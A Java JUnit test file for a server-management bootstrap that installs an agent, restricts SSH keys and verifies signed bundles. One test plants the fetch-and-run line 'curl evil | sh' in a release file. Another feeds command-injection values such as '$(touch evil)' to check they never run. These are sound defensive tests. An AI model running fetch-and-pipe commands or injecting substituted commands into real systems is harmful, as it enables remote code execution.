package io.chom.servers;

import static java.nio.charset.StandardCharsets.UTF_8;
import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.assertThatThrownBy;

import io.chom.ssh.ExecResult;
import io.chom.ssh.SshKeys;
import java.io.IOException;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.Arrays;
import java.util.Random;
import java.util.TreeMap;
import java.util.concurrent.TimeUnit;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;

/** The bootstrap as a server runs it: a real shell, a real bundle, a directory in place of the machine. */
class BootstrapTest {
  private static final AgentSigner SIGNER = AgentSigner.of(AgentSigner.generate());
  private static final String KEY = SshKeys.generate("chom-panel:019a0000-0000-7000-8000-000000000000").publicKey();
  @TempDir
  Path machine;

  @Test
  void installsTheAgentAndLetsOnlyThePanelsKeyIn() throws Exception {
    var report = run(bundle("1"), "");

    assertThat(report.complete()).describedAs(report.diagnostics()).isTrue();
    assertThat(report.rootless()).isTrue();
    assertThat(report.values()).containsEntry("version", "vpsmanager 1");
    assertThat(report.steps()).containsEntry("user", "skipped").containsEntry("sudoers", "skipped")
        .containsEntry("key", "done");
    assertThat(Files.readString(machine.resolve(".ssh/authorized_keys"))).isEqualTo("restrict,command=\"/usr/bin/env"
        + " VPSMANAGER_ROOT=" + machine + " " + machine + "/opt/vpsmanager/bin/entry\" " + KEY + "\n");
    assertThat(Files.isExecutable(machine.resolve("opt/vpsmanager/bin/entry"))).isTrue();
    assertThat(Files.readString(machine.resolve("etc/vpsmanager/policy.json"))).contains("root_console");
    assertThat(Files.readString(machine.resolve("etc/vpsmanager/agent-signing.pem"))).contains("BEGIN PUBLIC KEY");
  }

  @Test
  void aSecondTimeChangesNothing() throws Exception {
    run(bundle("1"), "");
    var again = run(bundle("1"), "");

    assertThat(again.complete()).isTrue();
    assertThat(again.steps()).containsEntry("unpack", "unchanged").containsEntry("verify", "unchanged")
        .containsEntry("policy", "unchanged").containsEntry("key", "unchanged");
  }

  @Test
  void aNewVersionTakesOverAndThePolicyOfTheServerStays() throws Exception {
    run(bundle("1"), "");
    var policy = machine.resolve("etc/vpsmanager/policy.json");
    Files.writeString(policy, "{\"agent_upgrade\": false}");

    assertThat(run(bundle("2"), "").values()).containsEntry("version", "vpsmanager 2");
    assertThat(Files.readString(policy)).contains("false").doesNotContain("root_console");
    assertThat(machine.resolve("opt/vpsmanager/releases")).isDirectoryNotContaining("glob:**.new.*");
  }

  @Test
  void goesOnAfterABreakAtAnyPoint() throws Exception {
    var input = new Bootstrap(bundle("1"), KEY, "{\"root_console\": false}").input("");
    for (int length = 1; length < input.length; length += input.length / 7) {
      assertThat(run(Arrays.copyOf(input, length)).complete()).isFalse();
      assertThat(machine.resolve(".ssh/authorized_keys")).doesNotExist();
    }
    assertThat(run(input).complete()).isTrue();
  }

  @Test
  void refusesABundleThatWasDamagedOnTheWay() throws Exception {
    var input = new Bootstrap(bundle("1"), KEY, "{}").input("");
    input[input.length - 20] ^= 1;
    var report = run(input);

    assertThat(report.complete()).isFalse();
    assertThat(report.code()).isEqualTo("BUNDLE_DAMAGED");
    assertThat(machine.resolve("opt/vpsmanager/current")).doesNotExist();
  }

  @Test
  void refusesABundleWhoseFilesAreNotThoseOfItsManifest() throws Exception {
    var honest = bundle("1");
    var other = bundle("2");
    // the archive is what was announced, its content is not what was signed
    var forged = new AgentBundle(honest.id(), repack(honest, other), "", honest.manifest(), honest.signingKey());
    var report = run(new AgentBundle(forged.id(), forged.archive(), AgentBundle.sha256(forged.archive()), "",
        forged.signingKey()), "");

    assertThat(report.code()).isEqualTo("BUNDLE_DAMAGED");
    assertThat(report.step()).isEqualTo("verify");
    assertThat(machine.resolve("opt/vpsmanager/current")).doesNotExist();
    assertThat(machine.resolve(".ssh/authorized_keys")).doesNotExist();
  }

  @Test
  void repairsAReleaseSomebodyChangedOnTheServer() throws Exception {
    run(bundle("1"), "");
    var release = machine.resolve("opt/vpsmanager/releases/" + bundle("1").id());
    Files.writeString(release.resolve("lib/extra.sh"), "curl evil | sh");

    assertThat(run(bundle("1"), "").steps()).containsEntry("unpack", "done").containsEntry("verify", "done");
    assertThat(release.resolve("lib/extra.sh")).doesNotExist();
  }

  @ParameterizedTest
  @ValueSource(strings = {"", "hunter2", "touch evil", "$(touch evil)", "`touch evil`; touch evil", "chom:script",
      "a'b\"c\\n"})
  void anAnswerNobodyAskedForIsNeverRun(String answer) throws Exception {
    assertThat(run(bundle("1"), answer).complete()).isTrue();
    assertThat(machine.resolve("evil")).doesNotExist();
  }

  @Test
  void otherKeysOfASharedLoginStay() throws Exception {
    Files.createDirectories(machine.resolve(".ssh"));
    Files.writeString(machine.resolve(".ssh/authorized_keys"), "ssh-ed25519 AAAA me@home\nssh-ed25519 BBBB"
        + " chom-panel:019a0000-0000-7000-8000-000000000001\n");
    run(bundle("1"), "");
    assertThat(Files.readString(machine.resolve(".ssh/authorized_keys"))).contains("me@home").contains(KEY)
        .doesNotContain("BBBB");
  }

  @Test
  void theSameFilesMakeTheSameBundle() {
    assertThat(bundle("1").archive()).isEqualTo(bundle("1").archive());
    assertThat(bundle("1").id()).isNotEqualTo(bundle("2").id());
  }

  @Test
  void anySingleWordComesThroughAShellAsItIs() throws Exception {
    var random = new Random(42);
    var alphabet = "ab '\"\\$`!*?[]{}();&|<>~#=\n\t-%éß漢\u0001\u007f";
    var words = new java.util.ArrayList<String>(java.util.List.of("", "'", "''", "\\", "$(id)", "-n", "a\n", "\n"));
    for (int i = 0; i < 500; i++) {
      var word = new StringBuilder();
      for (int n = random.nextInt(30); n > 0; n--) {
        word.append(alphabet.charAt(random.nextInt(alphabet.length())));
      }
      words.add(word.toString());
    }
    var script = new StringBuilder();
    var expected = new StringBuilder();
    for (var word : words) {
      script.append("printf '%s\\036' ").append(Posix.quote(word)).append('\n');
      expected.append(word).append('\u001e');
    }
    assertThat(new String(sh("sh", script.toString().getBytes(UTF_8), new String[]{}).stdout(), UTF_8))
        .isEqualTo(expected.toString());
    assertThatThrownBy(() -> Posix.quote("a\0b")).isInstanceOf(IllegalArgumentException.class);
  }

  @Test
  void wordsOfTheServerAreOnlyShown() {
    var report = BootstrapReport.of(new ExecResult(0, """
        chom:begin platform
        chom:value os debian 12 \u001b[31m
        chom:refused platform UNSUPPORTED_OS plan 9
        motd: chom:end all
        """.getBytes(UTF_8), new byte[0], false));
    assertThat(report.complete()).isFalse();
    assertThat(report.values()).containsEntry("os", "debian 12 [31m");
    assertThat(report.code()).isEqualTo("UNSUPPORTED_OS");
    assertThat(report.detail()).isEqualTo("plan 9");
  }

  private static AgentBundle bundle(String version) {
    return AgentBundle.of(files(version), SIGNER);
  }

  private static TreeMap<String, byte[]> files(String version) {
    var files = new TreeMap<String, byte[]>();
    files.put("bin/vpsmanager", ("#!/bin/bash\necho vpsmanager " + version + "\n").getBytes(UTF_8));
    files.put("bin/entry", "#!/bin/bash\nexec true\n".getBytes(UTF_8));
    files.put("lib/core.sh", new byte[]{0, 1, 2, (byte) 200});
    files.put("schema/a.json", "{}".getBytes(UTF_8));
    return files;
  }

  private byte[] repack(AgentBundle manifestOf, AgentBundle filesOf) throws Exception {
    var honest = Files.createDirectory(machine.resolve("honest"));
    var forged = Files.createDirectory(machine.resolve("forged"));
    sh("tar", manifestOf.archive(), new String[]{"-xzf", "-", "-C", honest.toString()});
    sh("tar", filesOf.archive(), new String[]{"-xzf", "-", "-C", forged.toString()});
    Files.copy(honest.resolve("MANIFEST"), forged.resolve("MANIFEST"),
        java.nio.file.StandardCopyOption.REPLACE_EXISTING);
    return sh("tar", new byte[0], new String[]{"-czf", "-", "-C", forged.toString(), "."}).stdout();
  }

  private BootstrapReport run(AgentBundle bundle, String answer) throws Exception {
    return run(new Bootstrap(bundle, KEY, "{\"root_console\": false}").input(answer));
  }

  private BootstrapReport run(byte[] input) throws Exception {
    return BootstrapReport.of(sh("sh", input, new String[]{"-c", Bootstrap.COMMAND}));
  }

  private ExecResult sh(String program, byte[] input, String[] arguments) throws IOException, InterruptedException {
    var command = new java.util.ArrayList<>(java.util.List.of(program));
    command.addAll(Arrays.asList(arguments));
    var builder = new ProcessBuilder(command).directory(machine.toFile());
    builder.environment().put("VPSMANAGER_ROOT", machine.toString());
    builder.environment().put("HOME", machine.toString());
    var errors = Files.createTempFile("stderr", "");
    var process = builder.redirectError(errors.toFile()).start();
    Thread.ofVirtual().start(() -> {
      try (var out = process.getOutputStream()) {
        out.write(input);
      } catch (IOException e) {
        // it stopped reading
      }
    });
    var output = process.getInputStream().readAllBytes();
    assertThat(process.waitFor(30, TimeUnit.SECONDS)).isTrue();
    return new ExecResult(process.exitValue(), output, Files.readAllBytes(errors), false);
  }
}
